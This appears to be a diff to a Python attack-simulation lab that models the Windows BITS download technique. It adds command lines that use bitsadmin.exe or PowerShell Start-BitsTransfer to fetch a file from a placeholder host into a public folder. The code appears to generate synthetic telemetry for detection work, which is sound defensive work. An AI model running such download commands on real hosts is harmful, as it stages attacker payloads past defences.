@@ -6,10 +6,10 @@ from base64 import b64encode
 from typing import Final
 
 from trackway.lab.world import machine as m
-from trackway.lab.world.facts import Image, Job, Process, Site, Turn
+from trackway.lab.world.facts import Image, Process, Site, Turn
 from trackway.lab.world.host import Host
 from trackway.lab.world.machine import SYSTEM32, system32
-from trackway.lab.world.reach import HOUR, HTTP, HTTPS, MINUTE, open_to, reach
+from trackway.lab.world.reach import HOUR, HTTP, HTTPS, MINUTE, reach, transfer
 from trackway.lab.world.resolver import is_answer
 from trackway.lab.world.schedule import Program
 from trackway.lab.world.windows import command
@@ -126,34 +126,25 @@ def fronting(host: Host, shell: Process) -> Program:
 
 
 def bits(host: Host, shell: Process) -> Program:
-    """Let the transfer service fetch a file: the socket and the look-up are the service's."""
+    """Let the transfer service fetch a file, by its tool or by a script."""
+    target, url = "C:\\Users\\Public\\get.bin", "https://get.example.net/get.bin"
     while True:
-        yield host.dice.exponential(20 * MINUTE)
+        yield host.dice.exponential(6 * MINUTE)
         prompt = command(host, shell, CMD, "cmd.exe /c update.cmd")
         prompt.attack = "bits"
-        target, url = "C:\\Users\\Public\\get.bin", "https://get.example.net/get.bin"
-        line = f"bitsadmin.exe /transfer Get /priority foreground {url} {target}"
-        owner = host.start(prompt, system32("bitsadmin.exe", "BITS administration utility"), line)
-        begun = host.now
-        yield 0.35
-        lookup = yield from host.resolve(host.services["BITS"], "get.example.net")
-        yield from open_to(host, host.services["BITS"], lookup, HTTPS, requester=owner, seconds=4)
-        yield 2.5
-        host.tell(
-            Job(
-                host.key("j"),
-                owner,
-                host.services["BITS"],
-                begun + 200_000,
-                host.now,
-                "Get",
-                url,
-                target,
-                48_128,
-            )
-        )
+        owner = _asking_bits(host, prompt, url, target)
+        yield from transfer(host, owner, "Get", url, target)
         host.end(owner)
         host.end(prompt)
+
+
+def _asking_bits(host: Host, prompt: Process, url: str, target: str) -> Process:
+    if host.dice.chance(0.5):
+        line = f"bitsadmin.exe /transfer Get /priority foreground {url} {target}"
+        return host.start(prompt, system32("bitsadmin.exe", "BITS administration utility"), line)
+    owner = host.start(prompt, m.POWERSHELL, "powershell.exe -NoP -File C:\\ProgramData\\get.ps1")
+    host.run_script(owner, "block", f"Start-BitsTransfer -Source {url} -Destination {target}")
+    return owner
 
 
 def squiblydoo(host: Host, shell: Process) -> Program:
